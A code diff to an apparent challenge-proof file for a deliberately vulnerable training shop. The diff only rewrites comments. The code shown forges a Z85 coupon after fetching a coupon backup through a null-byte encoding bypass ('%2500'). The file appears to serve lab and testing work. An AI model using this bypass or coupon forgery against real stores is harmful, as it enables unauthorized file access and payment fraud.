@@ -5,7 +5,7 @@ import { challenge } from './challenge.ts'
 const ALPHABET = '0123456789abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ.-:+=^!/*?&<>()[]{}@%$#'
 const MONTHS = ['JAN', 'FEB', 'MAR', 'APR', 'MAY', 'JUN', 'JUL', 'AUG', 'SEP', 'OCT', 'NOV', 'DEC'] as const
 
-/** Writes a text in Z85, as any coder of it does: five characters for four signs. */
+/** Encodes a text in Z85: four bytes become five characters. */
 function z85(text: string): string {
   const groups = text.match(/[\s\S]{4}/g) ?? []
   return groups
@@ -21,13 +21,13 @@ function z85(text: string): string {
     .join('')
 }
 
-/** A month as coupons write it. @param later months from now on */
+/** Returns a month in the format of coupons. @param later months from now */
 function monthOf(now: Date, later = 0): string {
   const month = new Date(Date.UTC(now.getUTCFullYear(), now.getUTCMonth() + later, 1))
   return `${MONTHS[month.getUTCMonth()]}${String(month.getUTCFullYear() % 100).padStart(2, '0')}`
 }
 
-/** Orders with a code, as a customer. @param codeFor makes it, given the time that it is in the shop */
+/** Orders with a coupon code as a new customer. @param codeFor creates the code from the shop's current time */
 const orderWith =
   (codeFor: (now: Date) => string): Attack =>
   async (attacker) => {
@@ -50,7 +50,7 @@ const redeem = (attacker: Attacker, basketId: number, code: string) =>
 
 export const proof = prove(challenge, {
   exploit: async (attacker) => {
-    // Twelve codes: JAN13-10, FEB13-10 and so on, in Z85.
+    // The file lists twelve Z85 codes, which decode to JAN13-10, FEB13-10 and so on.
     await attacker.get('/ftp/coupons_2013.md.bak%2500.md')
     await orderWith((now) => z85(`${monthOf(now)}-95`))(attacker)
   },
